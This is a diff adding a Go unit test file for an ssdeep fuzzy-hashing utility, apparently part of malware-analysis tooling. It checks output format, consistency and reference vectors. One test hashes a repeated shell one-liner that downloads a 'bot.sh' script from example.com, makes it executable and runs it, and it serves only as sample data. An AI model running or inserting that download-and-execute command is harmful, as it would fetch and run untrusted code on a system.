@@ -0,0 +1,53 @@
+package utils
+
+import (
+	"math/rand"
+	"strings"
+	"testing"
+)
+
+// TestSSDeep 测试ssdeep模糊哈希
+func TestSSDeep(t *testing.T) {
+	if got := SSDeep(nil); got != "3::" {
+		t.Errorf("空数据的ssdeep应为3::，实际得到 %s", got)
+	}
+
+	data := []byte(strings.Repeat("wget http://example.com/bot.sh; chmod +x bot.sh; ./bot.sh\n", 200))
+	hash := SSDeep(data)
+	if parts := strings.Split(hash, ":"); len(parts) != 3 || parts[1] == "" {
+		t.Errorf("ssdeep格式错误: %s", hash)
+	}
+	if SSDeep(data) != hash {
+		t.Error("相同数据的ssdeep应保持一致")
+	}
+}
+
+// TestSSDeepVectors 测试与参考实现的结果一致
+// 随机数据的向量取自github.com/glaslos/ssdeep测试数据中rand.Seed(1)生成的前两段数据
+func TestSSDeepVectors(t *testing.T) {
+	rng := rand.New(rand.NewSource(1))
+	for _, vector := range []struct {
+		size int
+		want string
+	}{
+		{4097, "96:yNDH/iNQaSXRLmOSxu1aQP4iWgC8JbkiA5Ix:yNLaNQhSxEgVYkiA5Ix"},
+		{45056, "768:mlHmRZnCRFRwSuK/UiwY37TMbsDEsb1Jqi6dcXoWpKXIUxpQDOAvWpPK:mqhCJwjmJD31DzbDwd+oGo9AvOi"},
+	} {
+		data := make([]byte, vector.size)
+		rng.Read(data)
+		if got := SSDeep(data); got != vector.want {
+			t.Errorf("%d字节随机数据的ssdeep = %s, want %s", vector.size, got, vector.want)
+		}
+	}
+
+	// 以0结尾时滚动哈希为0，第一段已满64个字符时仍要输出最近一个块边界时的最后一个字符
+	rng = rand.New(rand.NewSource(24))
+	data := make([]byte, 8192)
+	for i := range data[:len(data)-16] {
+		data[i] = byte(rng.Intn(16))
+	}
+	want := "96:SPonvryQzWFjy8xARr5nHhhpVLlHZVNkXoJMjC/zlnIXti/+oknk8FKG9eQgW0U5:bWmcm5nHXRPNSaMjCBYX5YUy/EaZ+hN"
+	if got := SSDeep(data); got != want {
+		t.Errorf("以0结尾的数据的ssdeep = %s, want %s", got, want)
+	}
+}